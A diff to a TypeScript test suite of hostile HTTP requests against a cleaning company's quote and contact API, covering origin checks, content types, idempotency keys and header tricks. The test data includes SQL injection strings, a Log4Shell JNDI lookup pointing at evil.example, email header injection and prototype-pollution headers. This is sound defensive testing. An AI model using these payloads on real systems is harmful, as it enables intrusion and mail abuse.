@@ -1,5 +1,5 @@
 import { aQuoteRequest } from "../../support/intake/aQuoteRequest";
-import { json, quote } from "./builders";
+import { form, json, quote } from "./builders";
 import {
   accepted,
   badRequest,
@@ -8,6 +8,7 @@ import {
   type HostileCase,
   type HostileRequest,
   invalid,
+  posted,
   refused,
   wrongType,
 } from "./HostileRequest";
@@ -43,9 +44,18 @@ const methods: HostileCase[] = [
   ...cases(accepted, {
     "X-HTTP-Method-Override on a POST": quote({}, { "X-HTTP-Method-Override": "DELETE" }),
   }),
+  ...cases(posted, { "_method in a form": form({ _method: "DELETE" }) }),
 ];
 
 const contentTypes: HostileCase[] = [
+  ...[
+    "text/plain;charset=UTF-8",
+    "application/json-patch+json",
+    "application/json, text/plain",
+    "application/json; charset=utf-8; boundary=x",
+    "application/x-www-form-urlencoded; charset=shift_jis",
+    "Multipart/Form-Data; boundary=x",
+  ].flatMap((type) => cases(wrongType, { [`Content-Type: ${type}`]: typed(type) })),
   ...cases(wrongType, {
     "no Content-Type": typed(undefined),
     "Content-Type of 4,000 letters": typed(`application/json; ${"x".repeat(4000)}`),
@@ -64,6 +74,12 @@ const contentTypes: HostileCase[] = [
       body: Buffer.from(text),
     },
   }),
+  ...cases(accepted, {
+    "Content-Type with capitals, blanks and semicolons": typed(
+      "APPLICATION/json ; charset=utf-8 ;",
+    ),
+  }),
+
   // Node keeps the first of two; Netlify joins them to an unknown type. Both are harmless.
   ...cases(
     accepted,
@@ -80,17 +96,31 @@ const contentTypes: HostileCase[] = [
   ),
 ];
 
-/** Every other origin is in api/http/isSameSite.test.ts. */
 const origins: HostileCase[] = [
   ...cases(accepted, {
+    "no Origin, as a program": quote(),
     "our own Origin": quote({}, { Origin: site, "Sec-Fetch-Site": "same-origin" }),
-    "our Origin over plain HTTP at the same Host": quote(
-      {},
-      { Host: "www.dogwoodcleaning.example", Origin: "http://www.dogwoodcleaning.example" },
-    ),
   }),
+  ...[
+    "https://evil.example",
+    `${site}:8443`,
+    `${site}.evil.example`,
+    `${site}@evil.example`,
+    "null",
+  ].flatMap((origin) => cases(forbidden, { [`Origin: ${origin}`]: quote({}, { Origin: origin }) })),
+  // A page under any name of the host that it posts to is ours, and over plain HTTP its browser sends no Sec-Fetch-Site.
+  ...["http://www.dogwoodcleaning.example"].flatMap((origin) => [
+    ...cases(accepted, {
+      [`Origin: ${origin} at the same Host`]: quote(
+        {},
+        { Host: "www.dogwoodcleaning.example", Origin: origin },
+      ),
+    }),
+    ...cases(forbidden, {
+      [`Origin: ${origin} at another Host`]: quote({}, { Host: "127.0.0.1:8000", Origin: origin }),
+    }),
+  ]),
   ...cases(forbidden, {
-    "another site's Origin": quote({}, { Origin: "https://evil.example" }),
     "Origin twice": quote({}, [
       ["Origin", site],
       ["Origin", "https://evil.example"],
@@ -100,11 +130,27 @@ const origins: HostileCase[] = [
       { "Sec-Fetch-Site": "cross-site", Origin: site },
     ),
   }),
+  // No script can write it. Behind a proxy that changes Host it is all that tells a page of ours.
+  ...cases(accepted, {
+    "Sec-Fetch-Site: same-origin with another Origin and Host": quote(
+      {},
+      { "Sec-Fetch-Site": "same-origin", Origin: "https://dogwoodcleaning.example" },
+    ),
+  }),
+  ...cases(
+    { status: 403, rows: 0, mails: 0 },
+    { "a form from another site": form({}, { Origin: "https://evil.example" }) },
+  ),
+  ...cases(posted, { "a form opened from an email": form({}, { "Sec-Fetch-Site": "none" }) }),
 ];
 
 const tricks: HostileCase[] = [
   ...cases(accepted, {
     "a forged X-Forwarded-For": quote({}, { "X-Forwarded-For": "127.0.0.1, 10.0.0.1, evil" }),
+    "X-Forwarded-For with an injection": quote(
+      {},
+      { "X-Forwarded-For": "' OR 1=1; --", "X-Real-IP": "${jndi:ldap://evil.example/x}" },
+    ),
     "X-Forwarded-For fifty times": quote(
       {},
       Array.from({ length: 50 }, (_, n): [string, string] => ["X-Forwarded-For", `10.0.0.${n}`]),
@@ -123,10 +169,12 @@ const tricks: HostileCase[] = [
       { Host: "evil.example", Origin: "https://evil.example" },
     ),
     "a cookie of 4,000 letters": quote({}, { Cookie: `__proto__=1; a=${"x".repeat(4000)}` }),
+    "a bearer token": quote({}, { Authorization: "Bearer eyJhbGciOiJub25lIn0.e30." }),
     "User-Agent with terminal codes": quote(
       {},
       { "User-Agent": "\x9b31mred", Referer: "javascript:alert(1)" },
     ),
+    "Accept of anything": quote({}, { Accept: "text/html" }),
     "Expect: 100-continue": quote({}, { Expect: "100-continue" }),
     "Upgrade: websocket": quote({}, { Upgrade: "websocket" }),
     "a header called __proto__": quote({}, { __proto__: "polluted", constructor: "x" }),
@@ -140,7 +188,9 @@ const tricks: HostileCase[] = [
 
 const idempotencyKeys: HostileCase[] = [
   ...cases(accepted, {
+    "a key of 8 letters": quote({ details: "key 8" }, { "Idempotency-Key": "12345678" }),
     "a key of 255 letters": quote({ details: "key 255" }, { "Idempotency-Key": "k".repeat(255) }),
+    "a key in quotes": quote({}, { "Idempotency-Key": '"c9f4dbb1-6a39-4a54-8e02-b0f8a0c9a1f2"' }),
     "a key that is an injection": quote(
       {},
       { "Idempotency-Key": "x';drop/**/table/**/quote_requests;--" },
@@ -148,6 +198,7 @@ const idempotencyKeys: HostileCase[] = [
     "a key called __proto__": quote({}, { "Idempotency-Key": "__proto__" }),
   }),
   ...cases(badRequest, {
+    "a key of 256 letters": quote({}, [["Idempotency-Key", "k".repeat(256)]]),
     "an empty key header": quote({}, { "Idempotency-Key": "" }),
     "a key with letters beyond ASCII": quote({}, { "Idempotency-Key": "caf\xe9caf\xe9caf\xe9" }),
   }),
@@ -202,6 +253,7 @@ const toContact = (changes: Record<string, unknown>): HostileRequest => ({
 
 const contactMessages: HostileCase[] = [
   ...cases(accepted, {
+    "a contact message with a phone": toContact({ phone: "+44 20 7946 0958" }),
     "a contact message with elements": toContact({
       subject: "<b>Hi</b>",
       message: '<h1 onclick="x()">Hi</h1>\n.\r\n<style>*{display:none}</style>',
@@ -211,6 +263,13 @@ const contactMessages: HostileCase[] = [
     "a contact subject with a second header": toContact({
       subject: "Hi\r\nBcc: victim@example.com",
     }),
+  }),
+  ...cases(invalid("name"), {
+    "a contact name with a second header": toContact({ name: "Sam\nTo: victim@example.com" }),
+  }),
+  ...cases(invalid("message"), {
+    "an empty contact message": toContact({ message: "\u200b \u00a0" }),
+    "a contact message that is an array": toContact({ message: ["x"] }),
   }),
   ...cases(allowPost, {
     "a GET of contact messages": { method: "GET", path: "/api/contact-messages" },
